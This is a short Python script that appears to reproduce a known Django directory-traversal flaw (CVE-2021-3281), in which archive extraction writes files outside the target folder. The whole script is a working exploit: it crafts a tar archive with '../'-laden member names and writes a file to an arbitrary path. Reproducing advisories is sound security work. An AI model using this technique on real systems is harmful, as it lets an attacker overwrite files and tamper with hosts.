# PYSEC-2021-9 (CVE-2021-3281): Django before 3.1.6, django.utils.archive.extract() writes archive members whose
# names hold '../' outside the target directory (directory traversal).
import io
import os
import tarfile
from pathlib import Path

from django.utils import archive

target = os.environ["REPRODUCE_WRITE_PATH"]
Path("extract").mkdir(exist_ok=True)
member = "../" * 10 + target.lstrip("/")
with tarfile.open("evil.tar", "w") as tar:
    data = b"written outside the extraction directory\n"
    info = tarfile.TarInfo("dir/" + member)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))
    tar.addfile(tarfile.TarInfo("dir/other"), io.BytesIO(b""))
archive.extract("evil.tar", "extract")
